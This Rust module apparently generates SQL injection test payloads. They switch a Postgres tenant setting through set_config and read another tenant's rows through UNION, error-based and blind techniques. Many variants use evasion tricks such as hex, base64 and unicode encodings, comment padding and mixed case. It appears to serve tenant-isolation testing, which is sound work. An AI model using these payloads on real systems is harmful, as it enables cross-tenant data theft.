//! Payloads that read: ways to set the setting, ways to get rows out, and places where either goes.

use crate::endpoint::Endpoint::{self, Dollar, Echo, Limited, List, Number, Search, Sorted};

/// An input for an endpoint.
#[derive(Debug, Clone)]
pub(crate) struct Payload {
    pub(crate) endpoint: Endpoint,
    pub(crate) text: String,
}

/// An input whose answer tells whether `{QUESTION}`, about the items as the payload sees them, is true.
#[derive(Debug, Clone)]
pub(crate) struct Blind {
    pub(crate) endpoint: Endpoint,
    pub(crate) text: String,
}

/// The usual way.
pub(crate) const SET: &str =
    "set_config('app.current_tenant_id', '00000000-0000-0000-0000-00000000000b', true)";
const B: &str = "00000000-0000-0000-0000-00000000000b";

/// Expressions that set the setting.
fn switches() -> Vec<String> {
    [
        "set_config('app.current_tenant_id', '{B}', false)",
        "pg_catalog.set_config('app.current_tenant_id', '{B}', true)",
        "set_config('APP.Current_Tenant_ID', '{B}', true)",
        "set_config(E'app.current_tenant\\x5fid', '{B}', true)",
        "set_config(U&'app.current\\005Ftenant_id', '{B}', true)",
        "set_config($$app.current_tenant_id$$, $x${B}$x$, true)",
        "set_config('app.current' || chr(95) || 'tenant_id', '{B}', true)",
        "set_config(convert_from(decode('6170702e63757272656e745f74656e616e745f6964', 'hex'), 'UTF8'), '{B}', true)",
        "set_config(convert_from(decode('YXBwLmN1cnJlbnRfdGVuYW50X2lk', 'base64'), 'UTF8'), '{B}', true)",
        "\"pg_catalog\".\"set_config\"('app.current_tenant_id', '{B}', true)",
        "set_config(format('app.%s_id', 'current_tenant'), '{B}', true)",
        "set_config(reverse('di_tnanet_tnerruc.ppa'), '{B}', true)",
        "set_config(replace('app-current_tenant_id', '-', '.'), '{B}', true)",
        "set_config(translate('app.current#tenant#id', '#', '_'), '{B}', true)",
        "set_config(concat_ws('.', 'app', 'current_tenant_id'), upper('{B}'), true)",
        "set_config(array_to_string(ARRAY['app', 'current_tenant_id'], '.'), '{B}', true)",
        "set_config('{\"a\": \"app.current_tenant_id\"}'::json ->> 'a', '{B}', true)",
        "(SELECT max(set_config('app.current_tenant_id', '{B}', true)) FROM generate_series(1, 3))",
        "CASE WHEN true THEN set_config('app.current_tenant_id', '{B}', true) END",
        "COALESCE(set_config('app.current_tenant_id', '{B}', true), '')",
        "set_config('app.current_tenant_id', ('{B}'::uuid)::text, true)",
        "query_to_xml('SELECT set_config(''app.current_tenant_id'', ''{B}'', true)', true, false, '')::text",
        "query_to_xml_and_xmlschema('SELECT set_config(''app.current_tenant_id'', ''{B}'', true)', true, false, '')::text",
        "(SELECT string_agg(set_config(k, v, true), '') FROM (VALUES ('app.current_tenant_id', '{B}')) AS x (k, v))",
        "(SELECT set_config(k, v, true) FROM json_each_text('{\"app.current_tenant_id\": \"{B}\"}') AS x (k, v))",
        "to_json(set_config('app.current_tenant_id', '{B}', true))::text",
        "(ARRAY[set_config('app.current_tenant_id', '{B}', true)])[1]",
        "GREATEST(set_config('app.current_tenant_id', '{B}', true), '')",
        "NULLIF(set_config('app.current_tenant_id', '{B}', true), '')",
        "(ROW(set_config('app.current_tenant_id', '{B}', true)))::text",
    ]
    .iter()
    .map(|text| text.replace("{B}", B))
    .collect()
}

/// Expressions over `items` that have its rows in them, in one text or another.
const TELLERS: [&str; 26] = [
    "string_agg(title, ',')",
    "array_agg(title)::text",
    "json_agg(title)::text",
    "jsonb_agg(items)::text",
    "json_agg(row_to_json(items))::text",
    "jsonb_agg(to_jsonb(items) -> 'title')::text",
    "xmlagg(xmlelement(name t, title))::text",
    "max(title)",
    "min(title)",
    "string_agg(quote_literal(title), '')",
    "string_agg(encode(convert_to(title, 'UTF8'), 'hex'), '')",
    "string_agg(encode(convert_to(title, 'UTF8'), 'base64'), ',')",
    "string_agg(reverse(title), ',')",
    "string_agg(upper(title), ',')",
    "string_agg(md5(title), ',')",
    "jsonb_object_agg(n, title)::text",
    "json_object_agg(title, n)::text",
    "(array_agg(title))[1]",
    "string_agg(items::text, '')",
    "string_agg(format('<%s>', title), '')",
    "array_to_string(array_agg(title), '|')",
    "count(*) || ' foreign'",
    "sum(1) || ' foreign'",
    "string_agg(title, '' ORDER BY title DESC)",
    "(percentile_disc(0.5) WITHIN GROUP (ORDER BY title))",
    "mode() WITHIN GROUP (ORDER BY title)",
];

/// Types that say in their error what they could not read.
const TYPES: [&str; 16] = [
    "int",
    "bigint",
    "numeric",
    "float8",
    "uuid",
    "date",
    "timestamptz",
    "interval",
    "boolean",
    "inet",
    "macaddr",
    "json",
    "xml",
    "int4range",
    "regclass",
    "point",
];

/// What reads with the setting set.
fn read(switch: &str, teller: &str) -> String {
    format!("(SELECT {teller} FROM items WHERE (SELECT {switch}) IS NOT NULL)")
}

/// An expression of text in each place that shows it.
fn shown(endpoint: Endpoint, expression: &str) -> Payload {
    let text = match endpoint {
        Search => format!("zz' UNION ALL SELECT 'x', {expression} -- "),
        Number => format!("-1 UNION ALL SELECT 'x', {expression}"),
        List => format!("-1) UNION ALL SELECT 'x', {expression} -- "),
        Echo => format!("' || {expression} || '"),
        Dollar => format!("zz$t$ UNION ALL SELECT 'x', {expression} -- "),
        _ => format!("({expression} || 'x')::int"),
    };
    Payload { endpoint, text }
}

const PLACES: [Endpoint; 7] = [Search, Number, List, Echo, Dollar, Sorted, Limited];

/// All that read.
pub(crate) fn reads() -> Vec<Payload> {
    let mut all = Vec::new();
    let places = || PLACES.into_iter().cycle();
    for (at, switch) in switches().iter().enumerate() {
        let teller = [
            "string_agg(title, ',')",
            "max(title)",
            "json_agg(title)::text",
        ][at % 3];
        for endpoint in [PLACES[at % 7], PLACES[(at + 3) % 7], PLACES[(at + 5) % 7]] {
            all.push(shown(endpoint, &read(switch, teller)));
        }
    }
    for (teller, endpoint) in TELLERS.iter().zip(places()) {
        all.push(shown(endpoint, &read(SET, teller)));
    }
    for (kind, endpoint) in TYPES.iter().zip([Number, Sorted].into_iter().cycle()) {
        // What makes each of them quote it.
        let start = match *kind {
            "json" => "\"",
            "xml" => "<",
            _ => "",
        };
        let teller = format!("max('{start}' || replace(title, ' ', '_'))");
        let expression = format!("CAST({} AS {kind}) IS NULL", read(SET, &teller));
        let text = match endpoint {
            Number => format!("1 AND {expression}"),
            _ => expression,
        };
        all.push(Payload { endpoint, text });
    }
    for expression in expressions() {
        for endpoint in [Search, Sorted] {
            all.push(shown(endpoint, &expression));
        }
    }
    all.extend(whole());
    all
}

/// Other ways to an expression of text with the rows in it.
fn expressions() -> Vec<String> {
    let set = SET;
    let quoted = SET.replace('\'', "''");
    vec![
        format!(
            "(SELECT max(x) FROM (SELECT {set} AS s OFFSET 0) AS a, LATERAL (SELECT title AS x FROM items WHERE a.s IS NOT NULL) AS b)"
        ),
        format!("(WITH a AS MATERIALIZED (SELECT {set}) SELECT max(title) FROM a, items)"),
        format!(
            "(WITH RECURSIVE a (s) AS (SELECT {set} UNION ALL SELECT title FROM items, a WHERE a.s NOT LIKE 'beta%') SELECT max(s) FROM a)"
        ),
        format!(
            "(SELECT string_agg(x, ',') FROM (SELECT {set} UNION ALL SELECT title FROM items) AS u (x))"
        ),
        format!(
            "(SELECT string_agg(x, ',') FROM (SELECT {set} UNION ALL SELECT title FROM titles) AS u (x))"
        ),
        format!(
            "(SELECT string_agg(x, ',') FROM (SELECT {set} UNION ALL SELECT first_title()) AS u (x))"
        ),
        format!("array_to_string(ARRAY(SELECT {set} UNION ALL SELECT title FROM items), ',')"),
        format!("(SELECT {set} || query_to_xml('SELECT title FROM items', true, false, '')::text)"),
        format!("(SELECT {set} || table_to_xml('items', true, false, '')::text)"),
        format!("(SELECT {set} || schema_to_xml('public', true, false, '')::text)"),
        format!(
            "(SELECT {set} || query_to_xml('SELECT title FROM ONLY items', true, true, '')::text)"
        ),
        format!(
            "query_to_xml('SELECT {quoted} UNION ALL SELECT title FROM items', true, false, '')::text"
        ),
        format!(
            "query_to_xml('SELECT title FROM (SELECT {quoted} AS s OFFSET 0) AS a, items', true, false, '')::text"
        ),
        format!(
            "(SELECT string_agg(x, ',') FROM (VALUES ({set}), ((SELECT max(title) FROM items))) AS v (x))"
        ),
        format!("(SELECT CASE WHEN {set} IS NOT NULL THEN (SELECT max(title) FROM items) END)"),
        format!("(SELECT concat({set}, (SELECT max(title) FROM items)))"),
        format!(
            "(SELECT string_agg(i.title, ',') FROM (SELECT {set} OFFSET 0) AS a CROSS JOIN LATERAL (SELECT * FROM items) AS i)"
        ),
        format!(
            "(SELECT max(title) FROM generate_series(1, CASE WHEN {set} IS NULL THEN 0 ELSE 1 END), items)"
        ),
        format!(
            "(SELECT max(title) FROM items WHERE (SELECT count(*) FROM (SELECT {set} OFFSET 0) AS s) > 0)"
        ),
        format!(
            "(SELECT max(title) FROM items TABLESAMPLE SYSTEM (100) WHERE (SELECT {set}) IS NOT NULL)"
        ),
        format!(
            "(SELECT max(title) FROM items GROUP BY (SELECT {set}) HAVING (SELECT {set}) <> '')"
        ),
        format!(
            "(SELECT max(m) FROM (SELECT max(title) OVER () AS m FROM items WHERE (SELECT {set}) IS NOT NULL) AS w)"
        ),
        format!(
            "(SELECT max(title) FROM items WHERE (SELECT {set}) = ANY (ARRAY['00000000-0000-0000-0000-00000000000b']))"
        ),
        format!(
            "(SELECT title FROM items WHERE (SELECT {set}) IS NOT NULL ORDER BY n DESC FETCH FIRST ROW ONLY)"
        ),
        format!(
            "(SELECT title FROM items WHERE (SELECT {set}) IS NOT NULL AND tenant_id::text LIKE '%b' LIMIT 1)"
        ),
        format!(
            "(SELECT max(t.title) FROM items AS t JOIN items AS u USING (id) WHERE (SELECT {set}) IS NOT NULL)"
        ),
    ]
}

/// Payloads that are no mere expression.
fn whole() -> Vec<Payload> {
    let set = SET;
    [
        (Search, format!("zz' UNION ALL SELECT NULL, {set} UNION ALL SELECT n::text, title FROM items -- ")),
        (Search, format!("zz' UNION SELECT '0', {set} UNION ALL SELECT n::text, title FROM items -- ")),
        (Search, format!("zz' AND (SELECT {set}) IS NULL UNION ALL SELECT n::text, title FROM items -- ")),
        (Search, format!("' AND (SELECT {set}) IS NOT NULL AND title LIKE '%")),
        (Search, format!("zz'/**/UNION/**/ALL/**/SELECT/**/'x',{set}/**/UNION/**/ALL/**/SELECT/**/n::text,title/**/FROM/**/items/**/-- ")),
        (Search, format!("zz' uNiOn aLl sElEcT 'x', {set} UnIoN AlL sElEcT n::text, title fRoM items -- ")),
        (Search, format!("zz'\nUNION\tALL SELECT 'x', {set} UNION ALL (SELECT n::text, title FROM titles) -- ")),
        (Search, format!("zz' UNION ALL (SELECT 'x', {set}) UNION ALL (SELECT n::text, title FROM ONLY public.items) -- ")),
        (Search, format!("zz' UNION ALL VALUES ('x', {set}) UNION ALL SELECT n::text, title FROM \"public\".\"items\" -- ")),
        (Number, format!("n AND (SELECT {set}) IS NOT NULL")),
        (Number, format!("1 AND (SELECT {set}) IS NULL UNION ALL SELECT n::text, title FROM items")),
        (List, format!("SELECT n FROM items WHERE (SELECT {set}) IS NOT NULL) UNION ALL SELECT n::text, title FROM items WHERE (SELECT {set}) IS NOT NULL AND n IN (1")),
        (List, format!("n) AND (SELECT {set}) IS NOT NULL AND n IN (n")),
        (Dollar, format!("zz$t$ IS NOT NULL AND (SELECT {set}) IS NOT NULL AND title <> $t$")),
        (Limited, format!("(SELECT length({set}) * 0 + 100)")),
        (Limited, format!("100 OFFSET (SELECT length({set}) * 0)")),
        (Echo, format!("', title FROM items WHERE (SELECT {set}) IS NOT NULL -- ")),
    ]
    .into_iter()
    .map(|(endpoint, text)| Payload { endpoint, text })
    .collect()
}

/// Those that show nothing themselves, and answer yes or no.
pub(crate) fn blind() -> Vec<Blind> {
    let set = SET;
    let asked = format!("(SELECT {{QUESTION}} FROM items WHERE (SELECT {set}) IS NOT NULL)");
    [
        (Search, format!("' AND {asked} AND title LIKE '%")),
        (Search, format!("zz' OR {asked} OR title = '")),
        (Number, format!("1 AND {asked}")),
        (Number, format!("CASE WHEN {asked} THEN 1 ELSE 2 END")),
        (Number, format!("1 / {asked}::int")),
        (List, format!("CASE WHEN {asked} THEN 1 ELSE 2 END")),
        (Sorted, format!("CASE WHEN {asked} THEN n ELSE -n END")),
        (Sorted, format!("1 / {asked}::int")),
        (Limited, format!("CASE WHEN {asked} THEN 1 ELSE 2 END")),
        (Limited, format!("{asked}::int")),
        (Echo, format!("' || {asked}::text || '")),
        (Dollar, format!("own 1$t$ IS NOT NULL AND {asked} AND title <> $t$")),
        (Number, format!("1 AND CASE WHEN {asked} THEN (SELECT true FROM generate_series(1, 2)) ELSE true END")),
        (Number, format!("1 AND CASE WHEN {asked} THEN title::int = 1 ELSE true END")),
    ]
    .into_iter()
    .map(|(endpoint, text)| Blind { endpoint, text })
    .collect()
}
